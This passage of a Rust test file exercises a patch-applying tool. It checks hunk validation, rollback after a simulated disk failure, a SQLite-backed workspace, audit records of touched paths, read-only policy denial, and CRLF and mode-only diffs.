            Err("of two.txt declares 2 old and 3 new lines, but its body has 1 old line"),
        ),
        (
            "second hunk wrong",
            "--- a/two.txt\n+++ b/two.txt\n@@ -1 +1 @@\n-a\n+A\n@@ -2,1 +2,2 @@\n b\n",
            Err("Hunk 2 (`@@ -2,1 +2,2 @@`"),
        ),
        (
            "twin: true counts",
            "--- a/two.txt\n+++ b/two.txt\n@@ -1,2 +1,2 @@\n-a\n+A\n b\n",
            Ok("A\nb\n"),
        ),
        (
            "twin: two hunks with true counts",
            "--- a/two.txt\n+++ b/two.txt\n@@ -1 +1 @@\n-a\n+A\n@@ -2,1 +2,2 @@\n b\n+c\n",
            Ok("A\nb\nc\n"),
        ),
        (
            "twin: a header without counts",
            "--- a/two.txt\n+++ b/two.txt\n@@\n-a\n+A\n",
            Ok("A\nb\n"),
        ),
    ];
    for (case, two, want) in cases {
        let f = Fx::new();
        f.write("one.txt", "1\n2\n");
        f.write("two.txt", "a\nb\n");
        let before = f.snapshot();
        let got = f.patch(&format!("{one}{two}")).await;
        match want {
            Ok(content) => {
                got.unwrap_or_else(|e| panic!("{case}: {e}"));
                assert_eq!(f.read("one.txt"), "uno\n2\n", "{case}");
                assert_eq!(f.read("two.txt"), content, "{case}");
            }
            Err(needle) => {
                expect_err(got, ErrorKind::InvalidArgs, needle, case);
                assert_eq!(f.snapshot(), before, "{case}: a file changed");
            }
        }
    }
}

#[tokio::test]
async fn drift_twin_applies_where_the_context_is() {
    // The benign twin of the table above, checked for content: the stated line is 7, the
    // line is at 1.
    let f = Fx::new();
    f.write("seed.txt", "seed\n");
    f.patch("--- a/seed.txt\n+++ b/seed.txt\n@@ -7 +7 @@\n-seed\n+grown\n")
        .await
        .unwrap();
    assert_eq!(f.read("seed.txt"), "grown\n");
}

// ---------------------------------------------------------------------------------------------
// A write failing midway: rollback.
// ---------------------------------------------------------------------------------------------

/// The local backend, except that writes to chosen names fail (after `allow` successes each).
#[derive(Debug)]
struct Flaky {
    inner: LocalFs,
    fail: Mutex<Vec<(String, usize)>>,
    writes: AtomicUsize,
}

impl Backend for Flaky {
    fn kind(&self) -> &'static str {
        "flaky"
    }
    fn local_dir(&self, root: usize) -> Option<&Path> {
        self.inner.local_dir(root)
    }
    fn metadata(&self, path: &WsPath) -> io::Result<Metadata> {
        self.inner.metadata(path)
    }
    fn open_read(&self, path: &WsPath) -> io::Result<(Box<dyn ReadSeek>, Metadata)> {
        self.inner.open_read(path)
    }
    fn read_dir(&self, path: &WsPath) -> io::Result<Vec<DirEntry>> {
        self.inner.read_dir(path)
    }
    fn write_atomic(&self, path: &WsPath, data: &[u8]) -> io::Result<()> {
        self.writes.fetch_add(1, Ordering::SeqCst);
        let mut fail = self.fail.lock().unwrap();
        if let Some((_, allow)) = fail.iter_mut().find(|(n, _)| n == path.rel()) {
            if *allow == 0 {
                return Err(io::Error::other("disk on fire"));
            }
            *allow -= 1;
        }
        drop(fail);
        self.inner.write_atomic(path, data)
    }
    fn append(&self, path: &WsPath, data: &[u8]) -> io::Result<()> {
        self.inner.append(path, data)
    }
    fn create_dir_all(&self, path: &WsPath) -> io::Result<()> {
        self.inner.create_dir_all(path)
    }
    fn remove_file(&self, path: &WsPath) -> io::Result<()> {
        self.inner.remove_file(path)
    }
    fn remove_dir(&self, path: &WsPath, recursive: bool) -> io::Result<()> {
        self.inner.remove_dir(path, recursive)
    }
}

fn flaky(fail: Vec<(String, usize)>) -> impl FnOnce(&Path) -> Workspace {
    move |root: &Path| {
        let roots = vec![Root {
            path: root.to_path_buf(),
            writable: true,
        }];
        let inner = LocalFs::open(&roots).unwrap();
        Workspace::with_backend(
            roots,
            Arc::new(Flaky {
                inner,
                fail: Mutex::new(fail),
                writes: AtomicUsize::new(0),
            }),
        )
    }
}

const THREE: &str = "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+A\n--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+n\n--- a/c.txt\n+++ b/c.txt\n@@ -1 +1 @@\n-c\n+C\n--- a/d.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-d\n";

#[tokio::test]
async fn a_failed_write_midway_is_rolled_back_and_reported() {
    let f = Fx::with(flaky(vec![("c.txt".into(), 0)]));
    f.write("a.txt", "a\n");
    f.write("c.txt", "c\n");
    f.write("d.txt", "d\n");
    let before = f.snapshot();
    let err = f.patch(THREE).await.unwrap_err();
    let msg = err.to_string();
    assert!(
        msg.starts_with("Applying the patch stopped while writing c.txt:"),
        "{msg}"
    );
    assert!(
        msg.contains("Before that, a.txt, new.txt had been changed; they were restored to the original content, so the workspace is as it was."),
        "{msg}"
    );
    assert_eq!(f.snapshot(), before);
}

#[tokio::test]
async fn a_rollback_that_fails_names_the_files_left_changed() {
    // a.txt may be written once (the patch), not twice (the restore).
    let f = Fx::with(flaky(vec![("a.txt".into(), 1), ("c.txt".into(), 0)]));
    f.write("a.txt", "a\n");
    f.write("c.txt", "c\n");
    f.write("d.txt", "d\n");
    let msg = f.patch(THREE).await.unwrap_err().to_string();
    assert!(msg.contains("Restored: new.txt."), "{msg}");
    assert!(msg.contains("Could not be restored: a.txt ("), "{msg}");
    assert!(!f.exists("new.txt"));
    assert_eq!(f.read("a.txt"), "A\n");
    assert_eq!(f.read("d.txt"), "d\n", "deletes come after writes");
}

#[tokio::test]
async fn the_first_write_failing_changes_nothing() {
    let f = Fx::with(flaky(vec![("a.txt".into(), 0)]));
    f.write("a.txt", "a\n");
    f.write("c.txt", "c\n");
    f.write("d.txt", "d\n");
    let before = f.snapshot();
    let msg = f.patch(THREE).await.unwrap_err().to_string();
    assert!(msg.contains("No file had been changed yet"), "{msg}");
    assert_eq!(f.snapshot(), before);
}

// ---------------------------------------------------------------------------------------------
// The SQLite backend.
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn patches_apply_on_the_sqlite_workspace() {
    let dir = tempfile::tempdir().unwrap();
    let ws = tools_fs::sqlite_workspace(&dir.path().join("ws.db")).unwrap();
    let ctx = ToolContext::new(
        ws,
        Arc::new(Policy::supervised()),
        Arc::new(Limits::default()),
    );
    let s = stack();
    let call = |args: Value| {
        let ctx = ctx.for_call();
        let s = &s;
        async move { s.call_json("patch_apply", &args.to_string(), ctx).await }
    };
    let old = numbered(6);
    let new = old.replace("line 3\n", "line three\n");
    call(json!({"patch": format!("--- /dev/null\n+++ b/src/f.txt\n@@ -0,0 +1,6 @@\n{}", old.lines().map(|l| format!("+{l}\n")).collect::<String>())}))
        .await
        .unwrap();
    call(json!({"patch": diff_u("src/f.txt", &old, &new)}))
        .await
        .unwrap();
    let out = call(json!({"patch": "*** Begin Patch\n*** Update File: src/f.txt\n*** Move to: g.txt\n@@\n-line 1\n+LINE 1\n*** End Patch\n"}))
        .await
        .unwrap();
    assert_eq!(
        text(&out),
        "Applied the patch to 1 file:\nR src/f.txt → g.txt (+1 -1)"
    );
    let read = s
        .call_json("file_read", r#"{"path": "g.txt"}"#, ctx.for_call())
        .await
        .unwrap();
    assert!(
        text(&read).contains("1\tLINE 1\n2\tline 2\n3\tline three"),
        "{}",
        text(&read)
    );
}

// ---------------------------------------------------------------------------------------------
// What access() declares.
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn accesses_list_every_path_the_patch_touches() {
    let f = Fx::new();
    f.write("m.txt", "m\n");
    f.write("d.txt", "d\n");
    f.write("r.txt", "r\n");
    let audit = MemoryAudit::default();
    let s = stack().with_audit(Arc::new(audit.clone()));
    let patch = "*** Begin Patch\n*** Add File: a.txt\n+a\n*** Delete File: d.txt\n*** Update File: m.txt\n@@\n-m\n+M\n*** Update File: r.txt\n*** Move to: moved/r.txt\n*** End Patch\n";
    s.call_json(
        "patch_apply",
        &json!({ "patch": patch }).to_string(),
        f.ctx.for_call(),
    )
    .await
    .unwrap();
    let records = audit.records();
    assert_eq!(
        records[0].accesses,
        [
            "write a.txt",
            "read d.txt",
            "delete d.txt",
            "read m.txt",
            "write m.txt",
            "read r.txt",
            "delete r.txt",
            "write moved/r.txt"
        ]
    );

    // Read-only autonomy refuses the writes before anything runs.
    let ro = ToolContext::new(
        f.ctx.workspace.clone(),
        Arc::new(Policy::read_only()),
        Arc::new(Limits::default()),
    );
    let before = f.snapshot();
    expect_err(
        stack()
            .call_json(
                "patch_apply",
                &json!({"patch": "--- a/m.txt\n+++ b/m.txt\n@@ -1 +1 @@\n-M\n+m\n"}).to_string(),
                ro,
            )
            .await,
        ErrorKind::Denied,
        "read_only",
        "read-only policy",
    );
    assert_eq!(f.snapshot(), before);
}

#[tokio::test]
async fn new_crlf_files_and_mode_only_changes() {
    let f = Fx::new();
    let patch = git_diff(&[], &[("dos.bat", "@echo off\r\nexit\r\n")]);
    f.patch(&patch).await.unwrap();
    assert_eq!(f.read("dos.bat"), "@echo off\r\nexit\r\n");

    f.write("s.sh", "echo\n");
    let out = f
        .patch("diff --git a/s.sh b/s.sh\nold mode 100644\nnew mode 100755\n")
        .await
        .unwrap();
    let t = text(&out);
    assert!(
        t.starts_with("The patch applied, but no file's content changed."),
        "{t}"
    );
    assert!(
        t.contains("s.sh has a mode change to 100755 in the patch, which was not applied"),
        "{t}"
    );
}
